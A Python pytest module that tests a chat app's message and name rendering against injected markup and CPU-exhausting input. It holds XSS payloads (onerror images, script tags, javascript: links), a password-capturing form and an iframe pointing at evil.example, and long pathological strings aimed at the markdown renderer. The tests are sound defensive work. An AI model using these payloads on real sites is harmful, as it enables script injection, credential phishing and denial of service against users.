"""Texts: what somebody says stays text wherever it is shown, and costs little however poisonous it is.

First on a server that runs; then much more of the same, where it is rendered. tests/browser/test_scripts.py has it in
Chromium.
"""

import re
import time
from html.parser import HTMLParser
from typing import Final

import httpx
import psutil  # type: ignore[import-untyped]
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from chat.errors import BadText, ChatError
from chat.feed import fragment
from chat.model.member import FIRST_NUMBER, Member
from chat.model.message import TEXT_LIMIT, Draft, Message, checked_text, now
from chat.model.spelling import clean_name
from chat.text import markdown
from chat.words import words_of
from tests.api.guest import Guest
from tests.attacks import attack
from tests.attacks.floods import search
from tests.server import Server
from tests.visitor import Visitor

OURS: Final = {'div', 'span', 'p', 'a', 'time', 'i', 'button', 'b', 'br', 'li', 'ul', 'svg', 'path'}
MEMBER: Final = Member(number=FIRST_NUMBER, name='Mallory')
SLOWER: Final = 25.0  # times that rendering a poisonous text may take as long as a plain one of its length
PATIENT: Final = 20.0  # ms, of what the event loop renders itself
BESIDE: Final = 100.0  # ms, of what is rendered beside it

POISON: Final = [
    '>' * 4000,
    '[' * 4000,
    '[a](b' * 800,
    '*' * 4000,
    '**a' * 1333,
    '_a_' * 1333,
    '`' * 4000,
    '<' * 4000,
    '&' * 4000,
    '&#' * 2000,
    '</script>' * 444,
    'http://' * 571,
    'https://a.b' * 363,
    'www.' * 1000,
    'a.' * 2000,
    'http://a' + '.a' * 1996,
    'https://' + '(' * 3992,
    'https://a.example/' + ')' * 3982,
    'https://a.example/' + '?' * 3982,
    '@' * 4000,
    ':' * 4000,
    '\n' * 3999 + 'x',
    ' ' * 3999 + 'x',
    '\u0301' * 3999 + 'x',
    '\u202e' * 3999 + 'x',
    '\u200b' * 3999 + 'x',
    '👩\u200d👩\u200d👧' * 800,
    'ﷺ' * 4000,
    'İ' * 4000,
    '\ud800' * 3999 + 'x',
    '#' * 4000,
    '- ' * 2000,
    '1. ' * 1333,
    '| ' * 2000,
    '~' * 4000,
    '$' * 4000,
    '**a ' * 1000,
    '*_~|' * 1000,
    '> > ' * 1000,
    '- a\n' * 1000,
    '```\n' * 1000,
    '```python\n' + 'f"{' * 1330,
    '```ruby\n' + '\n'.join([' <<a' * 70] * 14),
    '|a' * 1998 + '\n|-',
    '[a](http://b)' * 307,
    ':a' * 2000,
    '\\' * 4000,
    '"' * 4000,
    'java\nscript:alert(1) ' * 190,
]


def rendered(text: str) -> str:
    """The fragment of a message, or nothing if it is refused."""
    try:
        draft = Draft(text=text).checked()
    except BadText:
        return ''
    message = Message(seq=1, author=MEMBER, text=draft.text, at=now(), client_msg_id=draft.client_msg_id)
    return fragment.message(message, None, words_of('en'))


class Tags(HTMLParser):
    """What of a fragment a browser takes for markup."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ''
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.fixture(autouse=True)
def no_memory(monkeypatch: pytest.MonkeyPatch) -> None:
    """Nothing is known from before: rendering costs what it costs."""
    monkeypatch.setattr(markdown, '_kept', markdown.Kept(0))


rendered('*what is imported on first use* :tada:\n```python\nx\n```')
PLAIN: Final = [tag for tag, _ in Tags(rendered('x')).tags]
ATTRIBUTES: Final = {(tag, name) for tag, given in Tags(rendered('x https://a.example/')).tags for name in given}
MARKUP: Final = st.lists(
    st.sampled_from(
        ['<', '>', '"',
        "'", '=', '**', '||', '](', '[', ')', '```', '- ', '> ', '|-|', '/',
         '&', '&lt;', '&#60;', 'script', 'img src=x onerror=', 'svg onload=', 'a href=',
         'javascript:', 'java\tscript:', 'data:text/html,', 'https://a.example/', 'www.a.example', ' ', '\n', '`', '${',
         '{{', '}}', 'style=', '<!--', '-->', ']]>', '<form action=', '</p>', '</div>', '\x00', '\u2028', 'x']
    ),
    max_size=30,
).map(''.join)  # fmt: skip


INTRUDERS: Final = {'img', 'script', 'form', 'style', 'input', 'iframe', 'meta', 'link', 'base'}
SCRIPT: Final = '<img src=x onerror=ran=1>'
PHISHING: Final = (
    '<form action=https://evil.example><input name=password></form>',
    '<style>body{display:none}</style><div style="position:fixed;inset:0" class="fixed">',
    '<iframe src=https://evil.example></iframe><meta http-equiv=refresh content=0><base href=https://evil.example>',
)
QR_CODE: Final = 'data:image/svg+xml;'  # of the link, which the page itself shows
DEAR: Final = 0.5  # seconds of the server's CPU, in which nobody else is heard


async def markup_after(server: Server, room: str, name: str, *texts: str) -> set[str]:
    """The kinds of elements that somebody's browser is given after another, of this name, has said this.

    With them, where the links among them lead.
    """
    async with (
        await Visitor.join(server, 'Alice', room) as alice,
        await Visitor.join(server, name, room) as mallory,
        Guest(server, room, 7, username=name) as program,
    ):
        for text in texts:
            await mallory.say(text)
            await program.say(f'{text} {len(texts)}')
        await alice.say('the end')
        await alice.hears('the end')
        await search(alice, 'evil', 'ran')
        await alice.quiet(0.2)
        late = await alice.browser.get(f'/rooms/{room}')
        page = Visitor(server, alice.browser, late.text)
        shown = [change.get('put', '') for change in alice.changes]
        shown += [str(panel) for change in alice.changes for panel in change.get('panels', {}).values()]
        elements = [*alice._elements_now().values(), *page.elements.values()]
        shown += [str(value) for each in elements for value in each.get('props', {}).values() if '<' in str(value)]
        assert any('the end' in html for html in shown)
        found = [each for html in shown for each in Tags(html).tags]
        found = [(tag, given) for tag, given in found if not str(given.get('src')).startswith(QR_CODE)]
        tags = {tag for tag, _ in found} | {str(attributes.get('href')) for _, attributes in found}
        return tags | ({'script'} if '<script>ran' in late.text else set())


@attack('T3', without='escaping')
async def test_script_in_what_is_said_and_in_names_runs(server: Server) -> bool:
    said = (SCRIPT, '<script>ran=1</script>', '</script><script>ran=1</script>')
    return bool(INTRUDERS & await markup_after(server, 'scripts', SCRIPT, *said))


@attack('T3', without='markup')
async def test_a_link_with_a_label_runs_a_script(server: Server) -> bool:
    said = ('[x](javascript:ran=1)', '![x](javascript:ran=1)', '**[x](javascript:ran=1)**', '> [x](javascript:ran=1)')
    return any('javascript:' in found for found in await markup_after(server, 'labels', 'Mallory', *said))


@attack('T5', without='escaping')
async def test_a_message_looks_like_a_form_of_the_house(server: Server) -> bool:
    return bool(INTRUDERS & await markup_after(server, 'phishing', 'Mallory', *PHISHING))


@attack('T4', without='plain text')
async def test_a_poisonous_text_keeps_others_waiting(server: Server) -> bool:
    dearest = 0.0
    process = psutil.Process(server.pid)
    async with await Visitor.join(server, 'Mallory', 'poison') as mallory:
        other = httpx.AsyncClient(base_url=server.url, verify=False, timeout=30)
        for text in POISON:
            mallory.frames.clear()
            before = sum(process.cpu_times()[:2])
            await mallory.say(text.encode('utf-8', 'replace').decode())
            await other.get('/healthz')  # comes after it
            dearest = max(dearest, sum(process.cpu_times()[:2]) - before)
            if dearest > DEAR:
                break
        else:
            await mallory.say('undisturbed')
            await mallory.hears('undisturbed')
        await other.aclose()
    return dearest > DEAR


@pytest.mark.attack('T4')
@given(st.one_of(st.text(max_size=300), MARKUP))
@example('\ud800')
@example('x' * (TEXT_LIMIT + 1))
def test_rendering_never_raises(text: str) -> None:
    rendered(text)


@pytest.mark.attack('T4')
@pytest.mark.parametrize('text', POISON, ids=lambda text: ascii(text[:12]))
def test_a_poisonous_text_costs_little_more_than_a_plain_one(text: str) -> None:
    assert len(text) <= TEXT_LIMIT
    limit = PATIENT if markdown.is_plain(text) else BESIDE
    assert best_of(text) < max(SLOWER * best_of('plain words ' * 333), limit), 'ms'


def best_of(text: str) -> float:
    """The fewest ms of CPU that rendering took: whatever else this machine does makes others longer."""
    times = []
    for _ in range(5):
        start = time.thread_time()
        rendered(text)
        times.append(time.thread_time() - start)
    return 1000 * min(times)


@pytest.mark.attack('T5')
@given(MARKUP)
@example('<form action=https://evil.example><input name=password></form>')
@example('<style>body{display:none}</style><div class="fixed" style="position:fixed;inset:0">')
@example('<img src=https://evil.example/beacon>')
@example('[click](javascript:alert(1)) java&#10;script:alert(1) https://a.example/"onmouseover="alert(1)')
@example('https://a.example/?"><script>alert(1)</script>')
def test_no_markup_of_a_message_comes_out_as_markup(text: str) -> None:
    found = Tags(rendered(text))
    if not found.tags:
        return
    kinds = [tag for tag, _ in found.tags if tag != 'a']
    if markdown.is_plain(checked_text(text)):
        assert kinds == PLAIN, 'nothing but links is added to what every message has'
        assert {(tag, name) for tag, given in found.tags for name in given} <= ATTRIBUTES
    assert {*kinds} <= {*PLAIN, *markdown.TAGS}
    for tag, attributes in found.tags:
        mine = {*markdown.TAGS.get(tag, ()), *markdown.VALUES.get(tag, ()), 'class', 'data-source', 'data-text'}
        assert {(tag, name) for name in attributes} <= ATTRIBUTES | {(tag, name) for name in mine}
        assert attributes.get('type') in {None, 'button', 'checkbox'}
        if tag == 'a' and 'href' in attributes:
            assert re.match(r'https?://|/rooms/', attributes['href'] or ''), attributes


@pytest.mark.attack('T3')
@given(st.one_of(MARKUP, st.text(max_size=40)))
@example('<img src=x onerror=alert(1)>')
@example('"><b>x')
def test_no_markup_of_a_name_comes_out_as_markup(name: str) -> None:
    try:
        member = Member(number=5, name=clean_name(name))
    except ChatError:
        return
    message = Message(seq=1, author=member, text='x', at=now(), client_msg_id='1')
    plain = Message(seq=1, author=Member(number=5, name='x'), text='x', at=now(), client_msg_id='1')
    for html, usual in (
        (fragment.message(message, None, words_of('en')), fragment.message(plain, None, words_of('en'))),
        (fragment.ghost(member, words_of('en')), fragment.ghost(plain.author, words_of('en'))),
    ):
        assert [tag for tag, _ in Tags(html).tags] == [tag for tag, _ in Tags(usual).tags]
